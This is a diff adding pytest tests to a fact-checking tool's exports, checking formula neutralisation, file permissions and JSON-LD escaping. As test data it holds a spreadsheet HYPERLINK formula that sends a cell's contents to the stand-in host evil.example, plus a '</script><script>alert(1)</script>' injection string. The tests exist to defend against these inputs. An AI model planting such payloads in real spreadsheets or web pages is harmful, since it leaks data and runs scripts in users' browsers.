@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import csv
 import json
+import os
+import stat
 
 import pytest
 
@@ -264,3 +266,115 @@ def test_hostile_text_is_escaped(desk, tmp_path):
     write_research(desk, folder)
     rows = (folder / CHECKWORTHY_FILE).read_text(encoding="utf-8").splitlines()
     assert all(line.count("\t") == 4 for line in rows)
+
+
+def test_check_worthiness_tsv_neutralises_formulas(desk, tmp_path):
+    """A sentence that a spreadsheet would run (plain, behind a bidi mark or white space,
+    full-width) goes out with a leading ' in the research TSV, as in the CSV."""
+    poison = [
+        '=HYPERLINK("http://evil.example/?x="&A1,"انقر")',
+        "\u200f=1+1 قال الوزير.",
+        "\uff0b1+1 قال الوزير.",
+        "@SUM(A1) قال الوزير.",
+    ]
+    article = desk.import_text("عنوان المقال\n" + "\n".join(poison) + "\n")
+    folder = tmp_path / "research"
+    write_research(desk, folder, article_id=article.article_id)
+    with open(folder / CHECKWORTHY_FILE, encoding="utf-8", newline="") as fh:
+        rows = list(csv.reader(fh, delimiter="\t", quoting=csv.QUOTE_NONE))
+    texts = [row[TSV_COLUMNS.index("sentence_text")] for row in rows[1:]]
+    for sentence in poison:
+        assert "'" + sentence in texts, (sentence, texts)
+    assert "عنوان المقال" in texts  # ordinary sentences are left alone
+
+
+def _write_csv(desk, out, **kw):
+    from factcheck.export import write_csv_report
+
+    return write_csv_report(desk, out, **kw)
+
+
+@pytest.mark.parametrize(
+    "writer",
+    [_write_csv, write_claimreview, write_annotations],
+    ids=["csv", "claimreview", "annotations"],
+)
+def test_exports_keep_the_umask_and_a_replaced_files_mode(desk, groups, tmp_path, writer):
+    """A new export is as private as the user's umask makes new files; ``--force`` over a
+    file keeps that file's mode (a 0600 report stays private)."""
+    old = os.umask(0o077)
+    try:
+        writer(desk, tmp_path / "private.out")
+    finally:
+        os.umask(old)
+    assert stat.S_IMODE((tmp_path / "private.out").stat().st_mode) == 0o600
+    old = os.umask(0o022)
+    try:
+        writer(desk, tmp_path / "shared.out")
+        assert stat.S_IMODE((tmp_path / "shared.out").stat().st_mode) == 0o644
+        replaced = tmp_path / "replaced.out"
+        replaced.write_text("old", encoding="utf-8")
+        replaced.chmod(0o600)
+        writer(desk, replaced, overwrite=True)
+        assert replaced.read_text(encoding="utf-8-sig") != "old"
+        assert stat.S_IMODE(replaced.stat().st_mode) == 0o600
+        replaced.chmod(0o664)
+        writer(desk, replaced, overwrite=True)
+        assert stat.S_IMODE(replaced.stat().st_mode) == 0o664
+    finally:
+        os.umask(old)
+
+
+def test_research_export_keeps_the_umask_and_replaced_modes(desk, groups, tmp_path):
+    folder = tmp_path / "research"
+    old = os.umask(0o077)
+    try:
+        write_research(desk, folder)
+    finally:
+        os.umask(old)
+    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in folder.iterdir()}
+    assert modes == {name: 0o600 for name in (STANCE_FILE, CHECKWORTHY_FILE, ARTICLES_FILE)}
+    (folder / STANCE_FILE).chmod(0o640)
+    old = os.umask(0o022)
+    try:
+        write_research(desk, folder, overwrite=True)
+    finally:
+        os.umask(old)
+    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in folder.iterdir()}
+    assert modes == {STANCE_FILE: 0o640, CHECKWORTHY_FILE: 0o600, ARTICLES_FILE: 0o600}
+
+
+SCRIPT_BREAK = "</script><script>alert(1)</script> <!-- & \u2028 \u2029"
+
+
+@pytest.mark.parametrize(
+    "writer", [write_claimreview, write_annotations], ids=["claimreview", "annotations"]
+)
+def test_json_ld_can_be_pasted_inside_a_script_element(desk, tmp_path, writer):
+    """A title, publisher, quote or note that would close the <script> element holding it
+    is written with \\u escapes: nothing raw, and the JSON still reads back exactly."""
+    body = f"{SCRIPT_BREAK} عنوان\nقال الوزير {SCRIPT_BREAK} إن النمو بلغ خمسة في المئة.\n"
+    aid = desk.import_text(body, publisher=SCRIPT_BREAK).article_id
+    text = desk.article(aid).text
+    start = text.index("قال")
+    claim = desk.add_claim(
+        aid, start, text.index(".", start) + 1, status_id="false", note=SCRIPT_BREAK
+    )
+    out = tmp_path / "export.json"
+    assert writer(desk, out, article_id=aid) == 1
+    raw = out.read_text(encoding="utf-8")
+    for ch in "<>&\u2028\u2029":
+        assert ch not in raw, ch
+    assert "\\u003c/script\\u003e" in raw
+    data = json.loads(raw)
+    if writer is write_claimreview:
+        (review,) = data
+        assert review["reviewBody"] == SCRIPT_BREAK
+        assert review["itemReviewed"]["appearance"][0]["headline"] == desk.article(aid).title
+        assert review["itemReviewed"]["appearance"][0]["publisher"]["name"] == SCRIPT_BREAK
+    else:
+        (item,) = data["first"]["items"]
+        assert item["target"]["selector"][1]["exact"] == claim.quote
+        assert {"type": "TextualBody", "purpose": "commenting", "value": SCRIPT_BREAK} in item[
+            "body"
+        ]
